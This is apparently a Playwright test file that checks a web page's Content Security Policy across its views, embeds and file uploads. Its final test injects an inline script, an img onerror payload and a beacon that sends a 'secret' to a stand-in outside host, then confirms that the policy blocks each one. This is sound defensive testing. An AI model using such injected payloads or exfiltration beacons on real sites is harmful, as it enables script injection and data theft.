import { expect, test, type Page } from '@playwright/test'
import { choose, inspector, open, playToTheEnd } from './page.ts'

/** The page's own content security policy: nothing that it does needs more, and what somebody puts into it does not run. */

/** What the browser holds against the page, in it and in its workers. */
async function listen(page: Page): Promise<readonly string[]> {
  const complaints: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/.test(message.text())) complaints.push(message.text())
  })
  await page.exposeFunction('complain', (text: string) => complaints.push(text))
  await page.addInitScript(() => {
    addEventListener(
      'securitypolicyviolation',
      ({ violatedDirective, blockedURI, sourceFile, lineNumber }) => {
        ;(window as unknown as { complain: (text: string) => void }).complain(
          `${violatedDirective}: ${blockedURI} at ${sourceFile}:${lineNumber}`,
        )
      },
    )
  })
  return complaints
}

async function openEveryTab(page: Page): Promise<void> {
  for (const tab of await inspector(page).getByRole('tab').all()) await tab.click()
}

test('no view of the page needs what the policy forbids', async ({ page }) => {
  test.slow()
  const complaints = await listen(page)
  await open(page)
  await playToTheEnd(page)
  await openEveryTab(page)
  await choose(page, 'S2', /^Crash/)
  const entries = page.getByRole('navigation', { name: 'Page' }).getByRole('button')
  for (const entry of await entries.all()) {
    await entry.click()
    await page.waitForTimeout(200)
    await page.keyboard.press('Escape')
  }
  for (const theme of ['light', 'dark', 'projector']) {
    await page.goto(`/?theme=${theme}`)
    await expect(page.getByRole('button', { name: /^S1,/ })).toBeVisible()
  }
  expect(complaints).toEqual([])
})

test('nor do the strips, the pictures, the comparison, many runs or a file', async ({ page }) => {
  test.slow()
  const complaints = await listen(page)
  await page.setViewportSize({ width: 1440, height: 900 })
  await open(page)
  await playToTheEnd(page)
  for (const key of ['h', 'g', 't']) {
    await page.keyboard.press(key)
    await page.waitForTimeout(300)
  }
  for (const kind of ['SVG', 'PNG']) {
    const saved = page.waitForEvent('download')
    await page.getByRole('button', { name: kind }).first().click()
    await saved
  }
  await page.getByRole('button', { name: 'Try the fix' }).click()
  await page.keyboard.press('x')
  await page.waitForTimeout(300)
  await page.getByRole('button', { name: 'Many runs' }).click()
  const panel = page.getByRole('dialog', { name: 'Many runs' })
  await panel.getByText('100', { exact: true }).click()
  await panel.getByRole('button', { name: /^Run it/ }).click()
  await expect(panel.locator('output')).toHaveText('All 100 runs are played.', { timeout: 20_000 })
  await page.getByRole('button', { name: 'Library', exact: true }).click()
  await page.getByLabel('History file').setInputFiles({
    name: 'a.edn',
    mimeType: 'text/plain',
    buffer: Buffer.from(
      '{:process 0, :type :invoke, :f :write, :value 1}\n{:process 0, :type :ok, :f :write, :value 1}',
    ),
  })
  await expect(page.getByRole('dialog', { name: /^Check of/ })).toBeVisible()
  expect(complaints).toEqual([])
})

test('a page that embeds it, and what is embedded, keep to theirs', async ({ page }) => {
  const complaints = await listen(page)
  await page.goto('/embed-example.html')
  await page.getByRole('button', { name: 'To the cut' }).click()
  await expect(page.frameLocator('iframe').getByRole('slider')).toHaveAttribute('aria-valuenow', '3050')
  expect(complaints).toEqual([])
})

test('what is put into the page does not run, load or send anything, and that is reported', async ({
  page,
}) => {
  const complaints = await listen(page)
  await open(page)
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.ran = true'
    document.body.append(script)
    const holder = document.createElement('div')
    holder.innerHTML = '<img src="x" onerror="window.ran = true"><b style="color: red">b</b>'
    document.body.append(holder)
    const beacon = new Image()
    beacon.src = 'https://elsewhere.example/?secret'
    const sent = await fetch('https://elsewhere.example/').catch(() => 'refused')
    await new Promise((resolve) => {
      setTimeout(resolve, 300)
    })
    return { script: 'ran' in window, sent }
  })
  expect(ran).toEqual({ script: false, sent: 'refused' })
  for (const directive of [
    'script-src-elem',
    'script-src-attr',
    'style-src-attr',
    'img-src',
    'connect-src',
  ]) {
    expect(complaints.join('\n')).toContain(`${directive}: `)
  }
})
